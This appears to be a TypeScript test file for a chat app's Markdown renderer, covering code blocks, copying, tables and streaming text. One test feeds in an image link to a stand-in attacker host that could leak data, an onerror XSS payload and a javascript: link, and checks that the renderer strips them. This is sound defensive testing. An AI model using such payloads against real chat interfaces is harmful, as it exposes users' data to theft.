import { MantineProvider } from "@mantine/core";
import { act, cleanup, fireEvent, render, screen } from "@testing-library/react";
import { afterEach, expect, test, vi } from "vitest";
import { Markdown } from "../../src/chat/markdown";
import { MarkdownText } from "../../src/chat/markdown-text";

afterEach(cleanup);

function show(text: string, isStreaming = false): HTMLElement {
  const content = isStreaming ? <MarkdownText text={text} isGrowing /> : <Markdown text={text} />;
  const { container } = render(
    <MantineProvider env="test">
      <main>{content}</main>
    </MantineProvider>,
  );
  return container.querySelector("main") as HTMLElement;
}

test("code has its language, its colours, and a button that copies it as it is", async () => {
  const writeText = vi.fn(async () => {});
  vi.stubGlobal("navigator", { ...navigator, clipboard: { writeText } });
  const shown = show("```python\nimport os\nprint(os.name)\n```");
  expect(shown.querySelector("figcaption")?.textContent).toBe("python");
  expect(shown.querySelector(".hljs-keyword")?.textContent).toBe("import");
  await act(async () => fireEvent.click(screen.getByRole("button", { name: "Copy code" })));
  expect(writeText).toHaveBeenCalledExactlyOnceWith("import os\nprint(os.name)");
  expect(screen.getByRole("button", { name: "Copied" })).toBeTruthy();
  vi.unstubAllGlobals();
});

test("code of a language that is not known is shown plain", () => {
  expect(show("```cobol85\nMOVE A TO B.\n```").querySelector("pre")?.textContent).toBe("MOVE A TO B.\n");
});

test("no picture is fetched from elsewhere, no script runs, and links leave the page", () => {
  const shown = show(
    "![secret](https://evil.example/x.png?d=1) <img src=x onerror=alert(1)> [ok](https://example.org) [bad](javascript:alert(1))",
  );
  expect(shown.querySelector("img")).toBeNull();
  expect(shown.textContent).toContain("secret");
  const links = [...shown.querySelectorAll("a")].map((link) => [link.getAttribute("href"), link.rel, link.target]);
  expect(links).toEqual([["https://example.org/", "noopener noreferrer", "_blank"]]);
});

test("tables, tasks and struck words are those of GitHub", () => {
  const shown = show("| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n~~old~~");
  expect(shown.querySelectorAll("td")).toHaveLength(2);
  expect(screen.getByRole("checkbox", { name: "Done" })).toBeTruthy();
  expect(shown.querySelector("del")?.textContent).toBe("old");
});

test("a first heading leaves the page's own alone", () => {
  expect(show("# Title").querySelector("h2")?.textContent).toBe("Title");
});

test("what is open in a text that grows is closed for now", () => {
  const shown = show("First **bold", true);
  expect(shown.querySelector("strong")?.textContent).toBe("bold");
  expect(show("See [the docs](https://exam", true).textContent).toBe("See the docs");
  expect(show("```js\nconst a = 1", true).querySelector("pre")?.textContent).toContain("const a = 1");
});

test("a definition at the end of a finished text reaches all of its links", () => {
  const text = "See [the docs][1].\n\nMore.\n\n[1]: https://example.org/docs\n";
  const { container } = render(
    <MantineProvider env="test">
      <MarkdownText text={text} isGrowing={false} />
    </MantineProvider>,
  );
  expect(container.querySelector("a")?.getAttribute("href")).toBe("https://example.org/docs");
});

test("the end of a text changes nothing of its blocks before the last", () => {
  const at = (text: string, isGrowing: boolean) => (
    <MantineProvider env="test">
      <MarkdownText text={text} isGrowing={isGrowing} />
    </MantineProvider>
  );
  const { container, rerender } = render(at("First.\n\nSecond **bo", true));
  const first = container.querySelector("p");
  rerender(at("First.\n\nSecond **bold**.", false));
  expect(container.querySelector("p")).toBe(first);
  expect(container.querySelector("strong")?.textContent).toBe("bold");
});
